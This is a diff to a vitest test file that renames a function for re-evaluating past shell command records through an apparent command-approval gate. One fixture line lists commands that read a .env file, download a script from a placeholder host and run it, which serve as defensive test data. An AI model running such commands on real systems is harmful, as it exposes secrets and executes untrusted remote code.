@@ -3,7 +3,7 @@ import { join } from 'node:path'
 import { expect, test } from 'vitest'
 import { LocalGate } from '../../src/gate/local-gate.ts'
 import { findRecords } from '../../src/lookback/find-records.ts'
-import { judgePast } from '../../src/lookback/look-back.ts'
+import { evaluatePast } from '../../src/lookback/evaluate-past.ts'
 import { recordFormats } from '../../src/lookback/records/index.ts'
 import { ScratchGate } from '../../src/lookback/scratch-gate.ts'
 import { findSecrets } from '../../src/secrets/find-secrets.ts'
@@ -35,7 +35,7 @@ test('every call gets what a gate says that is asked and told the same, one afte
   addCommands(home, ['cat .env', key, 'curl -s https://x.example.org/a.sh -o a.sh', 'sh a.sh', 'git status'])
   const { records } = findRecords(recordFormats, home, 0)
   const said: string[] = []
-  await judgePast(
+  await evaluatePast(
     records,
     [new ScratchGate(partsWith())],
     { since: 0, until },
